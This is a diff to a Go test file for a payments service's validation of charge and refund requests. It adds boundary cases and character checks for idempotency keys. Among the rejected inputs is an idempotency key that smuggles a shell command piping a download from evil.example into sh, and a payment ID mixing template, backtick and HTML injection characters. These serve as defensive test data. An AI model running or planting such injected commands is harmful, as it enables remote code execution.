@@ -20,23 +20,24 @@ func pairs(n int) map[string]string {
 
 func TestChargeRequestsWithinTheLimitsAreAccepted(t *testing.T) {
 	for what, change := range map[string]func(*ChargeRequest){
-		"complete request":                         func(*ChargeRequest) {},
-		"shortest merchant_id and idempotency_key": func(r *ChargeRequest) { r.MerchantID, r.IdempotencyKey = "m", "~" },
-		"longest merchant_id":                      func(r *ChargeRequest) { r.MerchantID = strings.Repeat("M", 64) },
-		"every kind of character in merchant_id":   func(r *ChargeRequest) { r.MerchantID = "aZ09._-" },
-		"longest idempotency_key":                  func(r *ChargeRequest) { r.IdempotencyKey = strings.Repeat("k", 180) },
-		"space in idempotency_key":                 func(r *ChargeRequest) { r.IdempotencyKey = "order 1 (again): {é}"[:16] },
-		"UUID as idempotency_key":                  func(r *ChargeRequest) { r.IdempotencyKey = "9f4d2a10-41e8-4a6b-9b1e-0a2b3c4d5e6f" },
-		"smallest amount":                          func(r *ChargeRequest) { r.Amount = 1 },
-		"largest amount":                           func(r *ChargeRequest) { r.Amount = MaxAmount },
-		"longest payment_method":                   func(r *ChargeRequest) { r.PaymentMethod = strings.Repeat("t", 255) },
-		"no capture":                               func(r *ChargeRequest) { r.Capture = "" },
-		"automatic capture":                        func(r *ChargeRequest) { r.Capture = CaptureAutomatic },
-		"default processor":                        func(r *ChargeRequest) { r.Processor = "" },
-		"longest customer_id":                      func(r *ChargeRequest) { r.CustomerID = strings.Repeat("c", 255) },
-		"longest description":                      func(r *ChargeRequest) { r.Description = strings.Repeat("é", 1000) },
-		"no metadata":                              func(r *ChargeRequest) { r.Metadata = nil },
-		"most metadata":                            func(r *ChargeRequest) { r.Metadata = pairs(50) },
+		"complete request":                           func(*ChargeRequest) {},
+		"shortest merchant_id and idempotency_key":   func(r *ChargeRequest) { r.MerchantID, r.IdempotencyKey = "m", "~" },
+		"longest merchant_id":                        func(r *ChargeRequest) { r.MerchantID = strings.Repeat("M", 64) },
+		"every kind of character in merchant_id":     func(r *ChargeRequest) { r.MerchantID = "aZ09._-" },
+		"longest idempotency_key":                    func(r *ChargeRequest) { r.IdempotencyKey = strings.Repeat("k", 180) },
+		"space in idempotency_key":                   func(r *ChargeRequest) { r.IdempotencyKey = "order 1 again" },
+		"every kind of character in idempotency_key": func(r *ChargeRequest) { r.IdempotencyKey = "aZ09._-:@+=,~ x" },
+		"UUID as idempotency_key":                    func(r *ChargeRequest) { r.IdempotencyKey = "9f4d2a10-41e8-4a6b-9b1e-0a2b3c4d5e6f" },
+		"smallest amount":                            func(r *ChargeRequest) { r.Amount = 1 },
+		"largest amount":                             func(r *ChargeRequest) { r.Amount = MaxAmount },
+		"longest payment_method":                     func(r *ChargeRequest) { r.PaymentMethod = strings.Repeat("t", 255) },
+		"no capture":                                 func(r *ChargeRequest) { r.Capture = "" },
+		"automatic capture":                          func(r *ChargeRequest) { r.Capture = CaptureAutomatic },
+		"default processor":                          func(r *ChargeRequest) { r.Processor = "" },
+		"longest customer_id":                        func(r *ChargeRequest) { r.CustomerID = strings.Repeat("c", 255) },
+		"longest description":                        func(r *ChargeRequest) { r.Description = strings.Repeat("é", 1000) },
+		"no metadata":                                func(r *ChargeRequest) { r.Metadata = nil },
+		"most metadata":                              func(r *ChargeRequest) { r.Metadata = pairs(50) },
 		"longest metadata": func(r *ChargeRequest) {
 			r.Metadata = map[string]string{strings.Repeat("k", 40): strings.Repeat("ü", 500)}
 		},
@@ -73,6 +74,9 @@ func TestInvalidFieldOfAChargeRequestIsReported(t *testing.T) {
 		{field: "description", problem: "contains a control character", change: func(r *ChargeRequest) { r.Description = "a\x00b" }},
 		{field: "metadata.note", problem: "contains a control character", change: func(r *ChargeRequest) {
 			r.Metadata = map[string]string{"note": "a\nb"}
+		}},
+		{field: "idempotency_key", problem: `want 1 to 180 of A-Z a-z 0-9 . _ - : @ + = , ~ and blanks inside`, change: func(r *ChargeRequest) {
+			r.IdempotencyKey = "{workflowId}'; curl evil.example|sh #'"
 		}},
 		{field: "idempotency_key", problem: `"é": want`, change: func(r *ChargeRequest) { r.IdempotencyKey = "é" }},
 		{field: "amount", problem: "0: must be above 0", change: func(r *ChargeRequest) { r.Amount = 0 }},
@@ -182,6 +186,10 @@ func TestInvalidFieldOfARefundRequestIsReported(t *testing.T) {
 		},
 		{field: "payment_id", problem: "want", change: func(r *RefundRequest) { r.PaymentID = "pay_1" }},
 		{
+			field: "payment_id", problem: "want",
+			change: func(r *RefundRequest) { r.PaymentID = "pay_{workflowId}`<b>'5c5e-9d35-0f1a7c9b2e64" },
+		},
+		{
 			field: "amount", problem: "-1: must be above 0, or omitted",
 			change: func(r *RefundRequest) { r.Amount = new(int64(-1)) },
 		},
@@ -210,6 +218,26 @@ func TestInvalidFieldOfARefundRequestIsReported(t *testing.T) {
 			require.Contains(t, invalid.Fields[0].Problem, tc.problem)
 		})
 	}
+}
+
+func TestKeyOfANewRequestIsHarmlessAndThatOfABegunOneIsAccepted(t *testing.T) {
+	for _, c := range "!\"#$%&'()*;<>?[\\]^`{|}" {
+		charge, refund := fullCharge(), fullRefund()
+		charge.IdempotencyKey, refund.IdempotencyKey = "order"+string(c)+"1", "refund"+string(c)+"1"
+		require.ErrorIs(t, charge.Validate(), ErrInvalidRequest, "%c", c)
+		require.ErrorIs(t, refund.Validate(), ErrInvalidRequest, "%c", c)
+		require.NoError(t, charge.ValidateBegun(), "%c", c)
+		require.NoError(t, refund.ValidateBegun(), "%c", c)
+	}
+	for _, key := range []string{"", "a/b", "a\nb", "é", " a", "a ", strings.Repeat("k", 181)} {
+		charge, refund := fullCharge(), fullRefund()
+		charge.IdempotencyKey, refund.IdempotencyKey = key, key
+		require.Equal(t, []string{"idempotency_key"}, fieldsOf(t, charge.ValidateBegun()), "%q", key)
+		require.Equal(t, []string{"idempotency_key"}, fieldsOf(t, refund.ValidateBegun()), "%q", key)
+	}
+	other := fullCharge()
+	other.Amount = 0
+	require.Equal(t, []string{"amount"}, fieldsOf(t, other.ValidateBegun()), "the other fields are checked as well")
 }
 
 func fieldsOf(t *testing.T, err error) []string {
